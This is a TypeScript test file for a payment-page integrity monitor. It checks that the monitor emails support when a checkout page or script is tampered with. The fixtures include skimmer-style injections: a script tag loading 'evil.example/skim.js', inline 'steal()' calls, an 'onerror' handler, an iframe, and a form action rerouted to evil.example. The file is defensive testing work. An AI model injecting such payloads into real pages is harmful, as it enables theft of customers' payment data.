import { getRequestListener } from '@hono/node-server'
import { expect, test } from 'vitest'
import { createTestApp } from '../../testing/test-app.ts'
import { testLog } from '../../testing/test-log.ts'
import { watchPaymentPages } from './watch-payment-pages.ts'

// The call replaces the global Response with Hono's variant for Node, as in a running shop.
getRequestListener(() => new Response())

const POLICY = "default-src 'self'; script-src 'self'"
const PAGE = `<html><link rel="modulepreload" href="/assets/pay.js"><script>start()</script>
<script type="application/ld+json">{"price": 1}</script><form method="post" action="/x"></form></html>`
const SCRIPT = 'export const pay = 1'

const html = (text: string, policy = POLICY, status = 200) =>
  new Response(text, { status, headers: { 'Content-Security-Policy': policy, 'X-Frame-Options': 'DENY' } })

/** Runs the check. `liveResponse` replaces what a visitor gets for a path and attempt. */
async function watch(liveResponse: (path: string, attempt: number) => Response | undefined) {
  const { deps } = await createTestApp({ PUBLIC_URL: 'https://shop.example' })
  const rendered = (path: string): Response => (path.endsWith('.js') ? new Response(SCRIPT) : html(PAGE))
  const attempts = new Map<string, number>()
  const live = async (url: string) => {
    const path = url.replace('https://shop.example', '')
    attempts.set(path, (attempts.get(path) ?? 0) + 1)
    return liveResponse(path, attempts.get(path) ?? 0) ?? rendered(path)
  }
  const pages = { own: (request: Request) => rendered(new URL(request.url).pathname), live, retryDelayMs: 1 }
  const counts = await watchPaymentPages(deps, pages, new AbortController().signal)
  const emails = await deps.db.selectFrom('mails').select(['recipient', 'data']).where('type', '=', 'alarm').execute()
  return { counts, emails, attempts }
}

test('finds nothing when the pages arrive unchanged', async () => {
  const { counts, emails, attempts } = await watch(() => undefined)
  expect([counts, emails]).toEqual([{ pages: 2, differences: 0 }, []])
  expect([...attempts.keys()]).toEqual(['/checkout', '/assets/pay.js', '/pay/nothing'])
})

const ALTERED = 'a script with other bytes'
const skimmer = '<script src="https://evil.example/skim.js"></script>'
test.each<[string, string, (path: string) => Response | undefined]>([
  ['a script from elsewhere', 'evil.example/skim.js', () => html(PAGE + skimmer)],
  ['a script in the page itself', 'inline script', () => html(`${PAGE}<script>steal()</script>`)],
  ['one of ours with something added', 'inline script', () => html(PAGE.replace('start()', 'start();steal()'))],
  ['an event handler', 'event handler', () => html(`${PAGE}<img src=x onerror=steal()>`)],
  ['a frame', 'iframe https://evil.example/', () => html(`${PAGE}<iframe src="https://evil.example/"></iframe>`)],
  [
    'a form that leads elsewhere',
    'form https://evil.example/',
    () => html(PAGE.replace('/x', 'https://evil.example/')),
  ],
  ['another policy', 'content-security-policy', () => html(PAGE, `${POLICY} https://evil.example`)],
  ['no policy', 'content-security-policy', () => html(PAGE, '')],
  ['another page', '503', () => html('Away', POLICY, 503)],
  [ALTERED, 'is not the one we made', () => new Response('steal()')],
])('emails the support address and logs an error about %s', async (what, message, liveResponse) => {
  testLog.expectErrors()
  const { counts, emails } = await watch((path) =>
    path.endsWith('.js') === (what === ALTERED) ? liveResponse(path) : undefined,
  )
  expect(counts['differences']).toBeGreaterThan(0)
  expect(emails).toHaveLength(1)
  expect(emails[0]?.recipient).toBe('support@atelier.example')
  expect(JSON.stringify(emails[0]?.data)).toContain(message)
  expect(testLog.lines().filter(({ level }) => level === 'error')).toHaveLength(1)
})

test('ignores a difference that is gone at a later attempt, such as a new version during its rollout', async () => {
  const { counts, emails } = await watch((path, attempt) =>
    path === '/checkout' && attempt < 3 ? html(PAGE.replace('pay.js', 'pay-2.js')) : undefined,
  )
  expect([counts, emails]).toEqual([{ pages: 2, differences: 0 }, []])
})

test('throws when a page cannot be reached, so that the run is retried', async () => {
  const unreachable = watch(() => {
    throw new TypeError('fetch failed')
  })
  await expect(unreachable).rejects.toThrow('fetch failed')
})
